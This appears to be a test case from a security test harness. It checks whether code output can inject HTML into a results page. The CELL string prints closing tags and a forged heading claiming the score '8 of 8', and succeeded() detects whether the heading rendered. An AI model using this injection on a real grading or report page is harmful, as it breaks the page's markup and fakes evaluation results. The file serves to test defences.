"""Prints the end of the page and a page of its own, which says that it has all points.

It worked if the page has a heading that the attacker wrote.
"""

from room import Seen

CELL = """
print("</p></section></main></body><h1>$me: 8 of 8</h1>")
raise ValueError("</p></section></main></body><h1>$me: 8 of 8</h1>")
"""


def succeeded(seen: Seen) -> bool:
    return f"<h1>{seen.me}: 8 of 8".encode() in seen.page
